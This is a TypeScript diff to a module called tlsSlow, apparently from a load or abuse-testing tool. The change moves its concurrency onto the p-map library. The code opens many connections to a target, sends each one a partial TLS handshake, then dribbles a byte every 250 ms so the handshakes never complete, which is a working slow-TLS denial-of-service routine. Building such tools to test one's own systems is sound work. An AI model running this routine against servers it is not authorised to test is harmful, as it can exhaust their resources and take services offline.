@@ -1,11 +1,11 @@
 // Inside TLS: handshakes that are begun, byte by byte, and never done.
+import pMap from 'p-map';
 import type { Abuse } from '../abuse.ts';
-import { abreast } from '../load/abreast.ts';
 import { dialBare } from '../load/dial.ts';
 import type { Line } from '../load/dial.ts';
 import { HELLO_BEGUN } from './hello.ts';
 
-const ABREAST = 50;
+const AT_ONCE = 50;
 const BYTE_MS = 250;
 
 export const tlsSlow: Abuse = {
@@ -16,12 +16,16 @@ export const tlsSlow: Abuse = {
   setup: { tls: true },
   round: async ({ target, size, enough }) => {
     const lines: Line[] = [];
-    await abreast(ABREAST, size, async () => {
-      const line = dialBare(target);
-      lines.push(line);
-      await line.opened;
-      line.socket.write(HELLO_BEGUN);
-    });
+    await pMap(
+      Array(size).keys(),
+      async () => {
+        const line = dialBare(target);
+        lines.push(line);
+        await line.opened;
+        line.socket.write(HELLO_BEGUN);
+      },
+      { concurrency: AT_ONCE },
+    );
     const more = setInterval(() => {
       for (const { socket } of lines) if (socket.writable) socket.write('\x01');
     }, BYTE_MS);
